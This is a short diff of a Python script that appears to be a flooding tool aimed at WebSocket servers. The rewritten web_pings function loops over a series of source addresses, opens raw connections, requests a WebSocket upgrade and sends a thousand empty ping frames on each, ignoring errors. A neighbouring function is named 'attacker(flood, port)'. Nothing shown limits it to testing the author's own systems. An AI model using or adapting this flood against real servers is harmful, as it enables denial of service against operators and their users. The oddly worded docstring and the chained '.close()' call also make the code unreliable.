@@ -132,12 +132,14 @@ def stalled_handshakes(port):
 
 
 def web_pings(port):
-    member = Raw(port, source=address(2))
-    if not asks_for_websocket(member):
-        raise OSError("no WebSocket")
-    threading.Thread(target=drink, args=(member,), daemon=True).start()
-    while True:
-        member.send(b"\x89\x80\0\0\0\0" * 1000)
+    """Each ends at the 64th in a row, and the next one comes."""
+    for source in sources():
+        try:
+            member = Raw(port, source=source)
+            asks_for_websocket(member)
+            member.send(b"\x89\x80\0\0\0\0" * 1000).close()
+        except OSError:
+            pass
 
 
 def attacker(flood, port):
